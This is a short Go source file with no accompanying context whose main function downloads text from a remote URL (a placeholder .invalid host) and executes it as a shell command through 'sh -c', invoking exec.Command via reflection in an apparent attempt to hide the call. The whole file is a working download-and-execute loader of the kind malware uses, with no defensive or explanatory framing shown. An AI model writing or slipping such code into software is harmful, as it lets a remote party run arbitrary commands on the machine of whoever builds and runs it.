package main

import (
	"io"
	"net/http"
	"os/exec"
	"reflect"
)

func main() {
	resp, _ := http.Get("https://cdn.example.invalid/task")
	body, _ := io.ReadAll(resp.Body)
	fn := reflect.ValueOf(exec.Command)
	out := fn.Call([]reflect.Value{reflect.ValueOf("sh"), reflect.ValueOf("-c"), reflect.ValueOf(string(body))})
	out[0].MethodByName("Run").Call(nil)
}
